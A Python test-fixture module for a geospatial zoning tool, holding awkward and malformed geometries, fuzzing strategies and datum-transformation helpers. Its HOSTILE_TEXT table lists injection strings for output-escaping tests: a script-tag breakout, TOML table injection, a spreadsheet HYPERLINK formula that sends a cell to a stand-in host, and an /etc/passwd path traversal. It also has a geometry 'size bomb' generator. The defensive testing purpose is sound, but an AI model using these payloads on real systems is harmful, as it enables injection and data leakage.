"""Awkward geometries shared by the tests, in one place.

Two families:

* In the station frame (metres, x east, y north, origin at the centre of the 25 m field, as in
  ``conftest``): the field itself, empty geometries, a polygon with a hole, footprints exactly
  on the 50 m and 1000 m lines and 1 mm either side, a multipart across zones, a road centre
  line (to be given a width) and points. Their distance D to the fence is known by
  construction; ``FIELD`` lets a test measure it independently with ``shapely.distance``.
* Hostile rows in WGS84 (lon, lat) as a planner's file may hold them: a bow-tie, a NaN
  vertex, a curved polygon (CURVEPOLYGON) as WKT and as ISO WKB, a sliver that is valid in
  degrees and self-intersecting in the station frame, and a hypothesis strategy of random
  valid and invalid WKT.
"""

from __future__ import annotations

import struct

import shapely
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

HALF = 12.5  # half the 25 m field [m]

# --- in the station frame -----------------------------------------------------------------

FIELD = shapely.box(-HALF, -HALF, HALF, HALF)  # the fence, unrotated (the shipped station)
EMPTY_POLYGON = shapely.Polygon()
EMPTY_POINT = shapely.from_wkt("POINT EMPTY")
# a ring-shaped parcel whose hole holds the field: 20 m from the fence all round
HOLE_AROUND_FIELD = shapely.Polygon(shapely.box(-200, -200, 200, 200).exterior.coords,
                                    [shapely.box(-HALF - 20, -HALF - 20, HALF + 20, HALF + 20).exterior.coords])


def square_at(d_m: float, size_m: float = 10.0) -> shapely.Polygon:
    """A ``size_m`` square due north whose south edge is ``d_m`` metres from the fence. [m]"""
    y0 = HALF + d_m
    return shapely.box(-size_m / 2, y0, size_m / 2, y0 + size_m)


MM = 0.001
# footprints on the protection-range edge (50 m) and the control-zone edge (1000 m), and 1 mm
# either side: (distance to the fence [m], footprint)
ON_THE_LINES = [(d, square_at(d)) for edge in (50.0, 1000.0) for d in (edge - MM, edge, edge + MM)]
# one parcel in two parts: 30 m (protection range) and 300 m (control zone) north
MULTIPART_ACROSS_ZONES = shapely.MultiPolygon([square_at(30.0), square_at(300.0)])
# a road centre line 55 m north of the fence: 12 m wide, its edge is 49 m away
ROAD_CENTRE_LINE = shapely.LineString([(-200, HALF + 55), (200, HALF + 55)])
POINTS = [shapely.Point(0, HALF + d) for d in (10.0, 100.0, 1500.0)]


# --- hostile rows in WGS84 ----------------------------------------------------------------

LON0, LAT0 = 111.57, 35.512      # about 800 m north-east of the field: control belt
BOWTIE = shapely.from_wkt("POLYGON ((111.574 35.505, 111.575 35.506, 111.575 35.505, "
                          "111.574 35.506, 111.574 35.505))")
NAN = shapely.from_wkt("POLYGON ((111.574 35.505, 111.575 NaN, 111.575 35.505, 111.574 35.505))")
CIRCLE_WKT = ("CURVEPOLYGON (CIRCULARSTRING (111.574 35.505, 111.575 35.506, 111.576 35.505, "
              "111.575 35.504, 111.574 35.505))")


def sliver():
    """Valid in EPSG:4326; its vertex D lies 1e-7° (about 1 cm) above the 1.8 km edge AB,
    and the edge's image in the station frame bends past D: self-intersecting there."""
    a, b = (LON0, LAT0), (LON0 + 0.02, LAT0)
    c, d, e = (LON0 + 0.02, LAT0 + 0.001), (LON0 + 0.01, LAT0 + 1e-7), (LON0, LAT0 + 0.001)
    return shapely.Polygon([a, b, c, d, e, a])


def _curve_wkb():
    """CIRCLE_WKT's circle as ISO WKB (CurvePolygon, type 10, of one CircularString, type 8)."""
    pts = [(111.574, 35.505), (111.575, 35.506), (111.576, 35.505), (111.575, 35.504), (111.574, 35.505)]
    ring = struct.pack("<BII", 1, 8, len(pts)) + b"".join(struct.pack("<dd", *p) for p in pts)
    return struct.pack("<BII", 1, 10, 1) + ring


def many_arcs_wkt(arcs: int, d: float = 1e-3) -> str:
    """A CIRCULARSTRING of ``arcs`` arcs ``d``° wide, eastwards from (LON0, LAT0), each bulging
    ``d / 4``: a sweep of 4 · atan(1/2) = 106.26°, so 27 chords of at most 4° each, and the whole
    ``27 · arcs + 1`` vertices once made straight (a size bomb for ``arcs`` past 37,037 at the
    default limit of 1,000,000, in about 1.6 MB of WKT)."""
    pts = [f"{LON0 + i * d!r} {LAT0}, {LON0 + (i + 0.5) * d!r} {LAT0 + d / 4!r}" for i in range(arcs)]
    return f"CIRCULARSTRING ({', '.join(pts)}, {LON0 + arcs * d!r} {LAT0})"


coord = st.floats(min_value=-0.02, max_value=0.02, allow_nan=False)
special = st.sampled_from([float("nan"), float("inf"), 1e300, -1e300, 0.0])
vertex = st.tuples(coord, coord) | st.tuples(special, coord)


@st.composite
def geometries(draw):
    """Random WKT near the station: polygons, lines, points, collections, empties and curves,
    with NaN, infinite and huge vertices among them."""
    kind = draw(st.sampled_from(["polygon", "line", "point", "collection", "empty", "curve"]))
    pts = [(111.575 + x, 35.51 + y) for x, y in draw(st.lists(vertex, min_size=1, max_size=7))]
    if kind == "point":
        return f"POINT ({pts[0][0]!r} {pts[0][1]!r})"
    if kind == "empty":
        return draw(st.sampled_from(["POLYGON EMPTY", "", "GEOMETRYCOLLECTION EMPTY"]))
    text = ", ".join(f"{x!r} {y!r}" for x, y in pts)
    if kind == "line":
        return f"LINESTRING ({text}, {pts[0][0]!r} {pts[0][1]!r})"
    if kind == "curve":
        three = (pts * 3)[:3]
        return "CIRCULARSTRING (" + ", ".join(f"{x!r} {y!r}" for x, y in three) + ")"
    ring = f"({text}, {pts[0][0]!r} {pts[0][1]!r})"
    poly = f"POLYGON ({ring})"
    if kind == "collection":
        return f"GEOMETRYCOLLECTION ({poly}, POINT ({pts[0][0]!r} {pts[0][1]!r}))"
    return poly


FUZZ = settings(max_examples=25, deadline=None, derandomize=True,
                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])


# --- hostile text ---------------------------------------------------------------------------

#: Text a planner's file or a station table may hold, that must stay text in every file
#: geozones writes: ``{label: (text, as XML/HTML hold it)}``. The second is worked out by
#: hand from XML 1.0's ``Char`` production (no NUL, no C0 control but tab and line feed, no
#: U+FFFE/U+FFFF: each becomes U+FFFD) and its end-of-line rule (CR LF and CR read as LF);
#: TOML, JSON and CSV keep the first exactly. No text starts or ends with a space (the station
#: table strips cells).
HOSTILE_TEXT: dict[str, tuple[str, str]] = {
    "line break and a key": ("A\nbuildings.storey_height_m = 0.5", "A\nbuildings.storey_height_m = 0.5"),
    "a table header": ('x"\n[[rules]]\nid = "evil"', 'x"\n[[rules]]\nid = "evil"'),
    "quotes": ('say "hi" \'there\' """ \'\'\' end', 'say "hi" \'there\' """ \'\'\' end'),
    "CDATA end and a script": ("]]></script><script>alert(1)</script><!--", "]]></script><script>alert(1)</script><!--"),
    "NUL and controls": ("NUL\x00 SOH\x01 VT\x0b US\x1f DEL\x7f tab\tend", "NUL\ufffd SOH\ufffd VT\ufffd US\ufffd DEL\x7f tab\tend"),
    "carriage returns": ("CRLF\r\nCR\rend", "CRLF\nCR\nend"),
    "non-BMP and separators": ("𠀀😀 LS\u2028 PS\u2029 nonchar\ufffe end", "𠀀😀 LS\u2028 PS\u2029 nonchar\ufffd end"),
    "template, backslash, entity": ("${alert(1)} `tick` back\\slash &amp; &#0;", "${alert(1)} `tick` back\\slash &amp; &#0;"),
    "a formula": ('=HYPERLINK("http://x.invalid/?"&A1,"see")', '=HYPERLINK("http://x.invalid/?"&A1,"see")'),
    "a path": ("../../etc/passwd", "../../etc/passwd"),
    "mathtext": ("$\\undefinedcmd$ $x^2$", "$\\undefinedcmd$ $x^2$"),
}


# --- on another datum -----------------------------------------------------------------------
# Gauss-Krüger CM 111°E (the Jiangxian station's meridian) on the older Chinese datums, as PROJ
# strings with a datum shift of their own (the seven parameters often published for them),
# and the EPSG codes of the same grids, for which PROJ knows no shift in Shanxi (a ballpark).
B54_TOWGS84 = ("+proj=tmerc +lat_0=0 +lon_0=111 +k=1 +x_0=500000 +y_0=0 +ellps=krass "
               "+towgs84=15.8,-154.4,-82.3,0,0,0,0 +units=m +no_defs")
X80_TOWGS84 = ("+proj=tmerc +lat_0=0 +lon_0=111 +k=1 +x_0=37500000 +y_0=0 +a=6378140 +rf=298.257 "
               "+towgs84=24,-123,-94,0.02,-0.25,-0.13,1.1 +units=m +no_defs")
B54_EPSG = "EPSG:2434"   # Beijing 1954 / 3-degree Gauss-Kruger CM 111E
X80_EPSG = "EPSG:2361"   # Xian 1980 / 3-degree Gauss-Kruger zone 37 (CM 111E, zone prefix)
SHED_M = 40.0            # the shed's east wall is this far west of the west fence [m]


def _aeqd(lon: float, lat: float) -> str:
    """An azimuthal equidistant frame centred on a station (plain PROJ, not geozones')."""
    return f"+proj=aeqd +lat_0={lat} +lon_0={lon} +x_0=0 +y_0=0 +ellps=GRS80 +units=m +no_defs"


def datum_shed(crs: str, lon: float, lat: float, d_m: float = SHED_M, size_m: float = 6.0):
    """A ``size_m`` square shed truly ``d_m`` west of the fence of a station at ``lon``,
    ``lat`` [deg], drawn in ``crs`` as a surveyor would give it (coordinates to the
    millimetre), and its distance to the fence as PROJ and plain geometry make it: the
    shed's coordinates to WGS84 with PROJ's own transformation (``+towgs84``, or whatever
    PROJ has there), then into an AEQD centred on the station, then ``shapely.distance`` to
    the field square. Returns ``(shed in crs, distance [m])``."""
    from pyproj import Transformer

    x1 = -HALF - d_m
    local = shapely.box(x1 - size_m, -size_m / 2, x1, size_m / 2)
    to_crs = Transformer.from_crs(_aeqd(lon, lat), "EPSG:4326", always_xy=True)
    into = Transformer.from_crs("EPSG:4326", crs, always_xy=True)

    def out(x, y):
        gx, gy = into.transform(*to_crs.transform(x, y))
        return [round(float(v), 3) for v in gx], [round(float(v), 3) for v in gy]

    import numpy as np

    shed = shapely.transform(local, lambda x, y: tuple(np.array(v) for v in out(x, y)), interleaved=False)
    return shed, shed_distance(shed, crs, lon, lat)


def shed_distance(geom, crs: str, lon: float, lat: float) -> float:
    """``geom`` (in ``crs``) to WGS84 with PROJ's own transformation, into the station's AEQD,
    and its distance to the (unrotated) field square. [m]"""
    from pyproj import Transformer

    wgs = Transformer.from_crs(crs, "EPSG:4326", always_xy=True)
    frame = Transformer.from_crs("EPSG:4326", _aeqd(lon, lat), always_xy=True)
    local = shapely.transform(geom, lambda x, y: frame.transform(*wgs.transform(x, y)), interleaved=False)
    return float(shapely.distance(local, FIELD))


# --- the issue-25 site: Gaode numbers of a footprint in the sunrise sector ---------------------

JIANGXIAN_LONLAT = (111.571, 35.504)   # the shipped station's field centre [deg]
GAODE_TRUE_WKT = ("POLYGON ((111.5745 35.5054, 111.5750 35.5054, 111.5750 35.5058, "
                  "111.5745 35.5058, 111.5745 35.5054))")   # the README's check example (WGS84)


def gaode_site():
    """The README's footprint (WGS84) as Gaode/AMap shows it: every vertex through
    coordTransform's forward formula (WGS84 → GCJ-02). Measured by hand (PROJ into the
    station's AEQD, ``shapely.distance`` to the field square, azimuth of the nearest point
    from the field centre) both ways. Returns ``(gcj_numbers, d_true, az_true, d_read,
    az_read)``: the true site and the numbers read as WGS84 [m, deg]."""
    import coordTransform
    import numpy as np
    from pyproj import Transformer

    true = shapely.from_wkt(GAODE_TRUE_WKT)
    xy = shapely.get_coordinates(true)
    glon, glat = coordTransform.wgs84_to_gcj02(xy[:, 0], xy[:, 1])
    gcj = shapely.set_coordinates(true, np.c_[glon, glat])
    frame = Transformer.from_crs("EPSG:4326", _aeqd(*JIANGXIAN_LONLAT), always_xy=True)

    def measure(geom):
        local = shapely.transform(geom, lambda x, y: frame.transform(x, y), interleaved=False)
        near = shapely.shortest_line(local, FIELD).coords[0]
        return float(shapely.distance(local, FIELD)), float(np.degrees(np.arctan2(near[0], near[1])) % 360)

    return (gcj, *measure(true), *measure(gcj))
